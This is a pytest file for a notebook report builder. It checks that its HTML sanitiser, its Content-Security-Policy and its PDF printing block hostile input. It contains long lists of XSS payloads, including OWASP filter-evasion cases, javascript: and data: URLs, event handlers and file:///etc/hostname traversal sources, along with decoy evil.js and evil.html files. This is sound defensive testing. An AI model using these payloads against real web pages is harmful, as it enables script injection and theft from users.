"""Hostile input in the report (issues 12 and 23): raw HTML in notebooks, links from data, stray files, odd names.

The sanitiser (``report.neutralise``, nh3) is checked statically on the payloads of both probes and on OWASP's
XSS filter-evasion cases; a hostile report is then built and opened in Chromium, every page and the PDF printing,
checking that no script ran and no request left the report folder; and Hypothesis feeds random tag soup through
the sanitiser into one browser session.
"""

from __future__ import annotations

import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from dry_needling import data, paths, report
from dry_needling.report import safety

RAN = "window.__pwned=1"
PAYLOADS = [  # the first probe (issue 12)
    f"<script>{RAN}</script>",
    '<SCRIPT SRC="x.js"></SCRIPT>',
    f'<a href="javascript:{RAN}">click</a>',
    f'<a href=" jav&#x61;script:{RAN}">click</a>',
    f'<a href="java\tscript:{RAN}">click</a>',
    f'<img src="x" onerror="{RAN}">',
    f'<svg onload="{RAN}"><a xlink:href="javascript:{RAN}">x</a></svg>',
    '<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>',
    '<a/href="vbscript:msgbox(1)">x</a>',
    f'<form action="javascript:{RAN}"><button>go</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RAN}">',
    '<base href="javascript:/">',
]
SMUGGLED = [  # the second probe (issue 23): raw-text elements, stray files, requests outside the folder
    '<style><a title="</style x><script src=data/evil.js></script x>"></style>',
    f'<style><a title="</style x><img src=x onerror={RAN} x>"></style>',
    '<style><a title="</style x><iframe src=data/evil.html></iframe x>"></style>',
    '<style><a title="</style x><base href=data/ x>"></style>',
    '<style><a title="</style x><meta http-equiv=refresh content=0;url=data/evil.html x>"></style>',
    '<style><a title="</style x><object data=data/evil.html></object x>"></style>',
    '<style><a title="</style x><form action=data/evil.html><button>go</button></form x>"></style>',
    f'<textarea><a title="</textarea><img src=x onerror={RAN}>"></textarea>',
    f'<title><a title="</title><img src=x onerror={RAN}>"></title>',
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>"></noscript>',
    f'<xmp><p title="</xmp><img src=x onerror={RAN}>"></xmp>',
    f'<noembed><p title="</noembed><img src=x onerror={RAN}>"></noembed>',
    f'<iframe><p title="</iframe><img src=x onerror={RAN}>"></iframe>',
    f'<math><mtext><table><mglyph><style><img src=x onerror={RAN}>',
    f'<svg><style><img src=x onerror={RAN}></style></svg>',
    '<p style="background:url(file:///etc/hostname)">outside</p>',
    '<p style="background:u\\72l(file:///etc/hostname)">escaped</p>',
    '<img src="file:///etc/hostname" alt="x">',
    '<img src="../../../../../../../../etc/hostname" alt="x">',
    '<img src="/etc/hostname" alt="x">',
    '<link rel="stylesheet" href="/etc/hostname">',
    '<video src="data/evil.mp4"></video><audio src="x.ogg"></audio>',
]
OWASP = [  # OWASP's XSS filter-evasion cheat sheet, written for this test
    "<SCRIPT SRC=x.js></SCRIPT>",
    f'<IMG SRC="javascript:{RAN};">',
    f"<IMG SRC=javascript:{RAN}>",
    f"<IMG SRC=JaVaScRiPt:{RAN}>",
    f"<IMG SRC=`javascript:{RAN}`>",
    f'<IMG """><SCRIPT>{RAN}</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    f"<IMG SRC=# onmouseover=\"{RAN}\">",
    f"<IMG SRC= onmouseover=\"{RAN}\">",
    f"<IMG onmouseover=\"{RAN}\">",
    f'<IMG SRC=/ onerror="{RAN}"></img>',
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039"
    "&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;"
    "&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58"
    "&#x53&#x53&#x27&#x29>",
    f'<IMG SRC="jav\tascript:{RAN};">',
    f'<IMG SRC="jav&#x09;ascript:{RAN};">',
    f'<IMG SRC="jav&#x0A;ascript:{RAN};">',
    f'<IMG SRC="jav&#x0D;ascript:{RAN};">',
    f'<IMG SRC=" &#14;  javascript:{RAN};">',
    "<SCRIPT/XSS SRC=x.js></SCRIPT>",
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={RAN}>",
    "<SCRIPT/SRC=x.js></SCRIPT>",
    f"<<SCRIPT>{RAN};//\\<</SCRIPT>",
    "<SCRIPT SRC=x.js?< B >",
    "<SCRIPT SRC=//x.example/.j>",
    f'<IMG SRC="`<javascript:{RAN}>`',
    f"</TITLE><SCRIPT>{RAN};</SCRIPT>",
    f'<INPUT TYPE="IMAGE" SRC="javascript:{RAN};">',
    f'<BODY BACKGROUND="javascript:{RAN}">',
    f'<IMG DYNSRC="javascript:{RAN}">',
    f'<IMG LOWSRC="javascript:{RAN}">',
    f'<STYLE>li {{list-style-image: url("javascript:{RAN}");}}</STYLE><UL><LI>XSS</br>',
    '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
    f"<svg/onload={RAN}>",
    f'<BGSOUND SRC="javascript:{RAN};">',
    f'<BR SIZE="&{{{RAN}}}">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    "<LINK REL=\"stylesheet\" HREF=\"x.css\">",
    "<STYLE>@import'x.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<x.css>; REL=stylesheet">',
    "<STYLE>BODY{-moz-binding:url(\"x.xml#xss\")}</STYLE>",
    f"<STYLE>@im\\port'\\ja\\vasc\\ript:{RAN}';</STYLE>",
    f'<IMG STYLE="xss:expr/*XSS*/ession({RAN})">',
    f"<STYLE TYPE=\"text/javascript\">{RAN};</STYLE>",
    f'<STYLE>.XSS{{background-image:url("javascript:{RAN}");}}</STYLE><A CLASS=XSS></A>',
    f'<STYLE type="text/css">BODY{{background:url("javascript:{RAN}")}}</STYLE>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{RAN};">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:{RAN};">',
    f'<IFRAME SRC="javascript:{RAN};"></IFRAME>',
    f"<IFRAME SRC=# onmouseover=\"{RAN}\"></IFRAME>",
    f'<FRAMESET><FRAME SRC="javascript:{RAN};"></FRAMESET>',
    f'<TABLE BACKGROUND="javascript:{RAN}">',
    f'<TABLE><TD BACKGROUND="javascript:{RAN}">',
    f'<DIV STYLE="background-image: url(javascript:{RAN})">',
    '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069'
    '\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
    f'<DIV STYLE="width: expression({RAN});">',
    f'<BASE HREF="javascript:{RAN};//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="x.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0'
    'cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjA'
    'iIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQ'
    'oIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<SCRIPT a=">" SRC="x.js"></SCRIPT>',
    '<SCRIPT ="blah" SRC="x.js"></SCRIPT>',
    '<SCRIPT a="blah" \'\' SRC="x.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="x.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="x.js"></SCRIPT>',
    '<SCRIPT a=">\'>" SRC="x.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="x.js"></SCRIPT>',
    '<A HREF="javascript:document.location=\'http://www.example.com/\'">XSS</A>',
    '<A HREF="//www.example.com/">XSS</A>',
    '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
    '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
    f'<A HREF="javas&#99;ript:{RAN}">XSS</A>',
    f'<A HREF="&#1;javascript:{RAN}">XSS</A>',
    f'<details open ontoggle="{RAN}">',
    f'<input autofocus onfocus="{RAN}">',
    f'<video><source onerror="{RAN}"></video>',
    f'<math><a xlink:href="javascript:{RAN}">x</a></math>',
    '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+">x</a>',
    f'<!--[if gte IE 4]><SCRIPT>{RAN};</SCRIPT><![endif]-->',
    f'<![CDATA[<]]>SCRIPT>{RAN}<![CDATA[<]]>/SCRIPT>',
]
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcset", "xlink:href",
                  "dynsrc", "lowsrc", "cite"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


RUNS_OR_LOADS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form",
                 "meta", "link", "svg", "template", "noscript", "textarea", "xmp", "plaintext", "noembed", "title",
                 "video", "audio", "source", "input", "button", "select", "bgsound"}


def _dangers(fragment: str, strict: bool = True) -> list[str]:
    """What in ``fragment`` could run or load: an event handler, a style with a function, a URL that is not a web
    link, an inline image or a place inside the report, a tag that runs or loads something; with ``strict``, any tag
    or attribute outside the sanitiser's allow-list (for a whole page, whose frame is the template's, not strict)."""
    parser = _Elements()
    parser.feed(fragment)
    parser.close()
    found = []
    for tag, attrs in parser.found:
        if tag in RUNS_OR_LOADS or (strict and tag not in safety.TAGS):
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            value = value or ""
            allowed = safety.ATTRIBUTES["*"] | safety.ATTRIBUTES.get(tag, set())
            if name.startswith("on") or (strict and name not in allowed):
                found.append(f"<{tag} {name}>")
            if name == "style" and re.search(r"[()\\]", value):
                found.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRIBUTES:
                plain = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = re.match(r"[a-z][a-z0-9+.-]*:", plain)
                web = scheme and scheme.group() in ("https:", "http:", "mailto:") and tag == "a"
                image = tag == "img" and re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml)[;,]", plain)
                inside = not scheme and not plain.startswith("/") and ".." not in plain
                if not (web or image or inside):
                    found.append(f"<{tag} {name}={value[:40]!r}>")
    return found


@pytest.mark.parametrize("payload", PAYLOADS + SMUGGLED + OWASP)
def test_neutralise_removes_every_payload(payload):
    cleaned = report.neutralise(f"<p>before</p>{payload}<p>after</p>")
    assert not _dangers(cleaned), (payload, cleaned)
    assert cleaned.startswith("<p>before</p>")


def test_the_danger_check_itself_finds_danger():
    for bad in (f"<script>{RAN}</script>", f'<img src=x onerror="{RAN}">', '<a href="javascript:x">y</a>',
                '<p style="background:url(x)">y</p>', '<img src="../../etc/hostname">', "<iframe></iframe>",
                '<a href="/etc/passwd">y</a>', '<img src="file:///etc/hostname">', "<meta http-equiv=refresh>"):
        assert _dangers(bad) and _dangers(bad, strict=False), bad
    assert _dangers("<blink>x</blink>") and not _dangers("<blink>x</blink>", strict=False)


def test_neutralise_keeps_ordinary_html():
    page = ('<p><a href="https://doi.org/10.1/x">doi</a> <a href="02_x.html#top">next</a> '
            '<img src="data:image/png;base64,AAAA" alt="a chart"> <code>&lt;script&gt;</code></p>'
            '<details><summary>Solution</summary><p>kept</p></details>'
            '<table class="dataframe"><thead><tr style="text-align:right"><th>a</th></tr></thead><tbody><tr>'
            '<td>1</td></tr></tbody></table>'
            '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block"><mrow><mi mathvariant="normal">x</mi>'
            '<mo stretchy="false">(</mo></mrow></math>'
            '<h2 id="Why">Why<a class="anchor-link" href="#Why">¶</a></h2>')
    assert report.neutralise(page) == page


@pytest.mark.parametrize("raw_text", ["script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noscript",
                                      "plaintext"])
def test_an_unclosed_raw_text_element_stays_inside_its_fragment(raw_text):
    assert report.neutralise(f"<p>before</p><{raw_text}") == "<p>before</p>"
    assert report.neutralise(f"<p>before</p><{raw_text}>rest of the cell") in ("<p>before</p>",
                                                                               "<p>before</p>rest of the cell")


@pytest.mark.parametrize("url", ["javascript:alert(3)", "JAVASCRIPT:alert(3)", " https://x.org", "data:text/html,x",
                                 "https://x.org/\"onmouseover=\"alert(1)", "//evil.example/x", "ftp://x.org/a"])
def test_a_source_url_that_is_not_http_is_not_linked(url):
    sources = data.load("sources").head(2).copy()
    sources.loc[sources.index[0], "url"] = url
    page = report.sources_page(sources)
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert all(_web_or_relative(h) and "\"" not in h for h in hrefs), hrefs
    assert "not linked" in page


def _web_or_relative(href: str) -> bool:
    """A web address, or a link inside the report (no scheme, not protocol-relative)."""
    if href.startswith(("https://", "http://")):
        return True
    return not re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:", href) and not href.startswith("//")


def test_web_url_accepts_only_plain_http_addresses():
    assert report.web_url("https://example.org/a?b=c#d") == "https://example.org/a?b=c#d"
    for bad in ["javascript:alert(1)", "https://x.org/a b", "https://x.org/\n", "mailto:a@b.c", None, 3]:
        assert report.web_url(bad) is None


def test_an_svg_figure_that_could_run_or_load_is_refused():
    drawing = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
    assert report.svg_problem(drawing.format('<rect clip-path="url(#p1)"/><use xlink:href="#m1"/>').encode()) is None
    for bad, why in [("<script>1</script>", "<script>"), ('<rect onclick="x()"/>', "event handler"),
                     ('<use xlink:href="evil.svg#a"/>', "reference to 'evil.svg#a'"),
                     ('<rect style="fill:url(file:///etc/hostname)"/>', "CSS url(file:///etc/hostname)"),
                     ("<style>@import 'x.css';</style>", "@import"),
                     ('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
                      "<foreignObject>")]:
        assert why in report.svg_problem(drawing.format(bad).encode()), bad
    assert "not an SVG" in report.svg_problem(b"<html><script>1</script></html>")
    assert "not well-formed" in report.svg_problem(b'<!DOCTYPE x [<!ENTITY a "aaaa">]><svg>&a;</svg>')


# --- a hostile report, built and opened in Chromium ------------------------------------------------

EVIL_JS = "window.__pwned = 1; document.title = 'PWNED'; console.log('PWNED');\n"
EVIL_HTML = "<!DOCTYPE html><title>PWNED</title><script>parent.__pwned = 1; console.log('PWNED')</script>\n"


def _hostile_notebooks(folder: Path) -> None:
    import nbformat

    v4 = nbformat.v4
    cells = [v4.new_markdown_cell("# Hostile\n\n**In short.** A test.")]
    for k, payload in enumerate(PAYLOADS + SMUGGLED + OWASP):
        cells.append(v4.new_markdown_cell(f"Payload {k}:\n\n{payload}\n\nafter {k}"))
    for k, tag in enumerate(["script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noscript",
                             "plaintext", "!--", "a title=\""]):
        cells.append(v4.new_markdown_cell(f"Unclosed {tag}: <{tag}"))
        cells.append(v4.new_markdown_cell(f"SURVIVES-{k}"))
    outputs = [v4.new_output("display_data", {"text/html": "".join(SMUGGLED), "text/plain": "x"}),
               v4.new_output("display_data", {"text/markdown": "".join(PAYLOADS), "text/plain": "x"}),
               v4.new_output("display_data", {"application/javascript": RAN, "text/plain": "x"}),
               v4.new_output("display_data", {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" '
                                                                f'onload="{RAN}"><script>{RAN}</script></svg>',
                                              "text/plain": "x"}),
               v4.new_output("display_data", {"text/vnd.mermaid": f"<img src=x onerror={RAN}>", "text/plain": "x"}),
               v4.new_output("execute_result", {"text/html": "".join(OWASP)}, execution_count=1)]
    cells.append(v4.new_code_cell("1 + 1", execution_count=1, outputs=outputs))
    cells.append(v4.new_raw_cell("".join(SMUGGLED), metadata={"raw_mimetype": "text/html"}))
    cells.append(v4.new_markdown_cell("THE-LAST-CELL"))
    nb = v4.new_notebook(cells=cells)
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / "00_hostile.ipynb")
    for name, text in (("03b_extra.ipynb", "# Extra"), ("notes.ipynb", "# Notes")):
        nbformat.write(v4.new_notebook(cells=[v4.new_markdown_cell(text)]), folder / name)


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    """A report from a hostile notebook, with stray files beside the data and the figures."""
    monkeypatch = pytest.MonkeyPatch()
    tmp = tmp_path_factory.mktemp("hostile")
    _hostile_notebooks(tmp / "notebooks")
    shutil.copytree(paths.data_dir(), tmp / "data")
    shutil.copytree(paths.figures_dir(), tmp / "figures")
    for folder in (tmp / "data", tmp / "figures"):
        (folder / "evil.js").write_text(EVIL_JS, encoding="utf-8")
        (folder / "evil.html").write_text(EVIL_HTML, encoding="utf-8")
        (folder / "evil.csv").write_text("a\n=1+1\n", encoding="utf-8")
    for name, value in (("NOTEBOOKS", "notebooks"), ("DATA", "data"), ("FIGURES", "figures"), ("BUILD", "build")):
        monkeypatch.setenv(f"DRY_NEEDLING_{name}", str(tmp / value))
    messages = []
    out = report.build(execute_notebooks=False, out_dir=tmp / "build" / "report", pdf=False, log=messages.append)
    yield out, messages
    monkeypatch.undo()


def test_a_notebook_with_an_odd_name_is_named_in_a_warning(hostile_build):
    out, messages = hostile_build
    text = "\n".join(messages)
    assert "03b_extra.ipynb is not in the report" in text and "notes.ipynb is not in the report" in text
    assert not (out / "03b_extra.html").exists()


def test_only_what_the_descriptor_and_the_figure_index_name_is_published(hostile_build):
    out, _ = hostile_build
    descriptor = json.loads((paths.data_dir() / "datapackage.json").read_text(encoding="utf-8"))
    expected_data = {"datapackage.json", "README.md", "index.html"} | {r["path"] for r in descriptor["resources"]}
    assert {p.relative_to(out / "data").as_posix() for p in (out / "data").rglob("*") if p.is_file()} == expected_data
    figures = {name for row in report._figure_index() for name in (row["png"], row["svg"], row["csv"])}
    assert {p.name for p in (out / "figures").iterdir()} == figures | {"index.csv"}
    stray = [p for p in out.rglob("*") if p.suffix in (".js", ".html") and p.parent.name in ("data", "figures")
             and p.name != "index.html"]
    assert not stray, stray
    assert {p.name for p in (out / "notebooks").iterdir()} == {"00_hostile.ipynb"}


def test_raw_html_in_markdown_is_neutralised_and_every_page_has_a_csp(hostile_build):
    out, _ = hostile_build
    page = (out / "00_hostile.html").read_text(encoding="utf-8")
    main = re.split(r"<main\b[^>]*>", page, maxsplit=1)[1].split("</main>", 1)[0]
    tools = re.search(r'<details class="notebook-tools".*?</details>', main, re.DOTALL).group(0)
    assert not _dangers(main.replace(tools, ""), strict=False), _dangers(main.replace(tools, ""), strict=False)[:5]
    for k in range(11):
        assert f"SURVIVES-{k}" in main  # an unclosed tag swallows nothing after its own cell
    assert "THE-LAST-CELL" in main
    for html_file in out.rglob("*.html"):
        text = html_file.read_text(encoding="utf-8")
        head = text.split("</head>")[0]
        assert report.CSP in head and 'http-equiv="Content-Security-Policy"' in head, html_file.name
        inline = re.findall(r"<script(?![^>]*\ssrc=)[^>]*>", text, re.IGNORECASE)
        assert not inline, (html_file.name, inline)  # only script files from the report's assets/ folder
        for src in re.findall(r'<script[^>]*\ssrc="([^"]+)"', text):
            assert re.fullmatch(r"(\.\./)?assets/[a-z-]+\.js", src), (html_file.name, src)


def test_the_policy_allows_no_outside_source():
    policy = dict(part.strip().split(" ", 1) for part in report.CSP.split(";"))
    assert policy["default-src"] == "'none'" and policy["script-src"] == "'self'"
    assert policy["img-src"] == "'self' data:" and "file:" not in report.CSP
    assert all(policy[d] == "'none'" for d in ("object-src", "frame-src", "connect-src", "base-uri", "form-action"))


def _chromium():
    executable = report.chromium_path()
    if executable is None:
        pytest.skip("Chromium is not installed: apt-get install chromium")
    return executable


class _Watch:
    """Everything a page did that it must not: a request outside the report, a script that ran."""

    def __init__(self, folder: Path):
        self.folder = folder.resolve().as_uri() + "/"
        self.outside: list[str] = []
        self.signs: list[str] = []

    def attach(self, page) -> None:
        page.on("request", self._request)
        page.on("console", lambda msg: "PWNED" in msg.text and self.signs.append(f"console: {msg.text}"))
        page.on("dialog", lambda dialog: (self.signs.append(f"dialog: {dialog.message}"), dialog.dismiss()))

    def _request(self, request) -> None:
        url = request.url
        if not (url.startswith(self.folder) or url.startswith("data:")):
            self.outside.append(url)


@pytest.mark.slow
def test_no_script_runs_and_no_request_leaves_the_folder_in_chromium(hostile_build):
    executable = _chromium()
    from playwright.sync_api import sync_playwright

    out, _ = hostile_build
    watch = _Watch(out)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=executable, args=report.CHROMIUM_ARGS)
        context = browser.new_context(offline=True)
        for html_file in sorted(out.rglob("*.html")):
            page = context.new_page()
            watch.attach(page)
            page.goto(html_file.resolve().as_uri(), wait_until="load")
            page.wait_for_timeout(50)
            assert page.url == html_file.resolve().as_uri(), f"{html_file.name} navigated to {page.url}"
            assert page.evaluate("() => window.__pwned") is None, html_file.name
            assert "PWNED" not in page.title(), html_file.name
            hrefs = page.evaluate("() => Array.from(document.querySelectorAll('[href],[src],[action],[data]'))"
                                  ".map(e => e.getAttribute('href') || e.getAttribute('src') || '')")
            assert not [h for h in hrefs if re.match(r"\s*(javascript|vbscript|data:text)", h, re.IGNORECASE)]
            if html_file.name == "00_hostile.html":
                text = page.inner_text("main")
                assert all(f"SURVIVES-{k}" in text for k in range(11)) and "THE-LAST-CELL" in text
            page.close()
        browser.close()
    assert not watch.outside, watch.outside
    assert not watch.signs, watch.signs


@pytest.mark.slow
def test_no_script_runs_and_no_request_leaves_the_folder_while_printing(hostile_build):
    _chromium()
    out, _ = hostile_build
    watch = _Watch(out)
    pages = [report.Page(p, p.with_suffix(".html").name, report._title(report.read_json(p), p.stem), "", None, "",
                         0.0) for p in report.notebooks()]
    assert report.print_pdf(out, pages, observe=watch.attach) is None
    assert not watch.outside, watch.outside
    assert not watch.signs, watch.signs
    for name in report.PDFS:
        pdf = (out / name).read_bytes()
        assert b"/Title (" + report.PDF_TITLE.encode() + b")" in pdf and b"PWNED" not in pdf


@pytest.mark.slow
def test_printing_stops_with_one_line_when_the_page_asks_for_a_file_outside(tmp_path):
    """The guard in the printer itself, with the sanitiser out of the way: a print page that loads a file outside
    the report folder is not printed."""
    _chromium()
    from dry_needling.report import pdf

    (tmp_path / "index.html").write_text("<main></main>", encoding="utf-8")
    (tmp_path / "page.html").write_text('<main><img src="file:///etc/hostname" alt="x"></main>', encoding="utf-8")
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(pdf, "CSP_META", "")
        page = report.Page(tmp_path / "page.ipynb", "page.html", "Page", "", None, "", 0.0)
        with pytest.raises(report.BuildFailed, match=r"^printing collection\.pdf: the page asked for "
                                                     r"file:///etc/hostname, outside the report folder"):
            report.print_pdf(tmp_path, [page])
    assert not (tmp_path / "collection.pdf").exists()


def test_the_shipped_sources_page_links_only_web_addresses():
    page = report.sources_page(data.load("sources"))
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert hrefs and all(_web_or_relative(h) for h in hrefs), [h for h in hrefs if not _web_or_relative(h)]


# --- random tag soup: whatever comes out of the sanitiser runs nothing -----------------------------

PIECES = ["<script>", "</script>", "<style>", "</style x>", "</style>", "<textarea>", "</textarea>", "<title>",
          "</title>", "<noscript>", "</noscript>", "<xmp>", "</xmp>", "<iframe>", "</iframe>", "<noembed>",
          "<plaintext>", "<template>", "</template>", "<math>", "<mtext>", "<mglyph>", "<svg>", "</svg>", "<table>",
          "<select>", "<option>", "<!--", "-->", "<![CDATA[", "]]>", '<a title="', '"', "'", ">", "<", "</", "/",
          "=", " ", "x", "<p>", "</p>", "<b>", "<details open ontoggle=__ran.push(1)>", "<img src=x onerror=",
          "__ran.push(2)", "<svg onload=__ran.push(3)>", "<body onload=__ran.push(4)>",
          "<input autofocus onfocus=__ran.push(5)>", "<iframe srcdoc='<script>parent.__ran.push(6)</script>'>",
          "<object data='data:text/html,<script>parent.__ran.push(7)</script>'>", "<base href=javascript:/>",
          "<meta http-equiv=refresh content='0;url=javascript:__ran.push(8)'>", "<a href=javascript:__ran.push(9)>",
          "<form><button formaction=javascript:__ran.push(10)>", "<embed src=javascript:__ran.push(11)>",
          "<style>@import 'x.css';</style>", "<p style=background:url(x.png)>", "<link rel=stylesheet href=x.css>",
          "<script>__ran.push(12)</script>", "<img src=x onerror=__ran.push(13)>", "&lt;", "&#x3c;", "&#60;script&#62;"]


@pytest.fixture(scope="module")
def browser_page():
    executable = _chromium()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=executable, args=report.CHROMIUM_ARGS)
        page = browser.new_context(offline=True).new_page()
        events: list[str] = []
        page.on("dialog", lambda dialog: (events.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: request.url.startswith("data:") or events.append(request.url))
        yield page, events
        browser.close()


@pytest.mark.slow
def test_random_html_through_the_sanitiser_runs_nothing_in_chromium(browser_page):
    """A few dozen random fragments, each sanitised and shown in a page without any CSP (the sanitiser alone
    stands between them and the browser): no script, handler or javascript: link ran, nothing was requested, and
    every link or source left is one the allow-list permits."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    page, events = browser_page

    @settings(max_examples=40, deadline=None, derandomize=True, database=None)
    @given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=25).map("".join))
    def check(fragment):
        cleaned = report.neutralise(fragment)
        assert not _dangers(cleaned), (fragment, cleaned)
        events.clear()
        page.set_content(f"<!DOCTYPE html><html><head><script>window.__ran = []</script></head><body>"
                         f"<div id='c'>{cleaned}</div><p id='end'>END</p></body></html>")
        page.evaluate("() => document.querySelectorAll('#c a[href]').forEach(a => { if (!/^(https?:|mailto:|#)/"
                      ".test(a.getAttribute('href'))) a.click(); })")
        page.wait_for_timeout(20)
        assert page.evaluate("() => window.__ran") == [], (fragment, cleaned)
        assert page.evaluate("() => document.getElementById('end') !== null"), (fragment, cleaned)  # nothing swallowed
        assert not events, (fragment, cleaned, events)

    check()


# --- a cell that prints too much --------------------------------------------------------------------

@pytest.mark.slow
def test_a_cell_that_prints_without_end_is_stopped_with_one_line(tmp_path, monkeypatch):
    import nbformat

    books = tmp_path / "notebooks"
    books.mkdir()
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Loud"),
                                         nbformat.v4.new_code_cell("1 + 1"),
                                         nbformat.v4.new_code_cell("while True:\n    print('x' * 100_000)")])
    nbformat.write(nb, books / "00_loud.ipynb")
    before = (books / "00_loud.ipynb").read_bytes()
    for name, value in (("NOTEBOOKS", "notebooks"), ("FIGURES", "figures"), ("BUILD", "build")):
        monkeypatch.setenv(f"DRY_NEEDLING_{name}", str(tmp_path / value))
    with pytest.raises(report.NotebookFailed) as info:
        report.build(out_dir=tmp_path / "build" / "report", pdf=False, log=lambda *_: None)
    message = str(info.value)
    assert re.fullmatch(r"(notebooks/)?00_loud\.ipynb: cell 3 printed [\d,]+ characters of output, more than the "
                        r"5,000,000 a cell may \(it was stopped\); print less, e\.g\. a table's head\(\) or a "
                        r"summary", message.replace(str(tmp_path) + "/", "")), message
    assert (books / "00_loud.ipynb").read_bytes() == before  # nothing written back
    assert not (tmp_path / "build" / "report").exists()
